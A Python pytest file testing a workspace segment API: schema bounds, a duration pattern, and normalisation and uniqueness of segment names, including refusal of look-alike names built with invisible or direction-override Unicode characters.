    assert _at_and_beyond(values["maxItems"], lambda n: filtered(operator="in", value=list(range(n)))) == (True, False)
    assert _at_and_beyond(
        event["count"]["properties"]["value"]["oneOf"][0]["maximum"],
        lambda n: {"type": "event", "event": "V", "count": {"operator": "gte", "value": n}},
    ) == (True, False)
    assert _at_and_beyond(
        _variant_schema("aggregate")["value"]["oneOf"][0]["maximum"],
        lambda n: {"type": "aggregate", "event": "V", "key": "k", "function": "sum", "operator": "gt", "value": n},
    ) == (True, False)
    assert _variant_schema("segment")["segment"]["maximum"] == MAX_NUMBER
    assert _at_and_beyond(MAX_NUMBER, lambda n: filtered(value=n)) == (True, False)


@pytest.mark.parametrize("text", ["1m", "48h", "7d", "4w", "5218w", "0d", "01d", "1.5d", "7", "7x", "12345678901m"])
def test_the_duration_pattern_of_the_schema_is_the_parsers(text):
    """Within a century (the parser's further bound, stated in the description), the pattern is exact."""
    from segmentation.definition import parse_duration
    from segmentation.serializers import _DURATION

    assert (re.fullmatch(_DURATION["pattern"], text) is not None) == (parse_duration(text) is not None)


# --- Names: one normal form, unique by case -----------------------------------------------------


@pytest.mark.parametrize(
    "look_alike",
    [
        "big spenders",
        "Big  spenders",
        "Big spenders\u200b",
        " BIG SPENDERS ",
        "Big\u00a0spenders",
        "\u202eBig spenders",
    ],
)
def test_a_name_that_looks_the_same_as_another_is_refused_and_nothing_written(workspace, client, key, look_alike):
    _segment(workspace, "Big spenders")
    before = segment_rows(workspace), state(workspace)

    response = _call(client, key, "POST", reverse("segment-list"), {"name": look_alike, "definition": BUYERS})

    assert response.status_code == 400
    assert response.json()["errors"] == {
        "name": [
            "A segment named 'Big spenders' already exists in this workspace."
            " Names that differ only in case, spacing or invisible characters count as the same."
        ]
    }
    assert (segment_rows(workspace), state(workspace)) == before


def test_names_are_stored_in_their_normal_form(workspace, client, key):
    response = _call(
        client, key, "POST", reverse("segment-list"), {"name": "\u202e Big\t spenders\u200b ", "definition": BUYERS}
    )

    assert response.status_code == 201
    assert response.json()["name"] == "Big spenders"
    with workspace_scope(workspace):
        assert Segment.objects.get(pk=response.json()["id"]).name == "Big spenders"


@pytest.mark.parametrize(
    ("name", "message"),
    [
        ("a\ud800b", "Surrogate characters are not allowed: U+D800."),
        ("\u200b\u202e", "A segment needs a name."),
        ("x" * 201, "Ensure this field has no more than 200 characters."),
    ],
)
def test_a_name_that_cannot_be_stored_is_refused_by_field(workspace, client, key, name, message):
    before = segment_rows(workspace)

    response = _call(client, key, "POST", reverse("segment-list"), {"name": name, "definition": BUYERS})

    assert response.status_code == 400
    assert response.json()["errors"] == {"name": [message]}
    assert segment_rows(workspace) == before


def test_renaming_to_another_segments_look_alike_is_refused_and_to_its_own_case_allowed(workspace, client, key):
    _segment(workspace, "Big spenders")
    mine = _segment(workspace, "vip")
    before = segment_rows(workspace)

    taken = _call(client, key, "PATCH", _detail(mine), {"name": "BIG spenders"})
    assert taken.status_code == 400
    assert list(taken.json()["errors"]) == ["name"]
    assert segment_rows(workspace) == before

    recased = _call(client, key, "PATCH", _detail(mine), {"name": "VIP"})
    assert recased.status_code == 200
    assert reload(mine).name == "VIP"


def test_the_same_name_in_another_workspace_is_fine(workspace, client, key):
    other = factories.WorkspaceFactory()
    _segment(other, "Big spenders")

    response = _call(client, key, "POST", reverse("segment-list"), {"name": "BIG SPENDERS", "definition": BUYERS})

    assert response.status_code == 201


def test_a_race_for_a_name_ends_in_the_constraint_and_a_400(workspace, monkeypatch):
    _segment(workspace, "Big spenders")
    # As when two saves check the name at once: this one's check saw no other segment.
    monkeypatch.setattr(segments_service, "_clean_name", lambda workspace, name, exclude=None: normalise_name(name))
    before = segment_rows(workspace)

    with workspace_scope(workspace), pytest.raises(DjangoValidationError) as caught:
        services.segment_create(workspace=workspace, actor=None, name="big spenders", definition=BUYERS)

    assert caught.value.message_dict == {"name": ["A segment named 'big spenders' already exists in this workspace."]}
    assert segment_rows(workspace) == before


def test_name_order_ignores_case(workspace, client, key):
    for name in ("banana", "Cherry", "apple", "Apple pie"):
        _segment(workspace, name)

    ascending = _call(client, key, "GET", reverse("segment-list") + "?ordering=name").json()["results"]
    descending = _call(client, key, "GET", reverse("segment-list") + "?ordering=-name").json()["results"]

    assert [s["name"] for s in ascending] == ["apple", "Apple pie", "banana", "Cherry"]
    assert [s["name"] for s in descending] == ["Cherry", "banana", "Apple pie", "apple"]
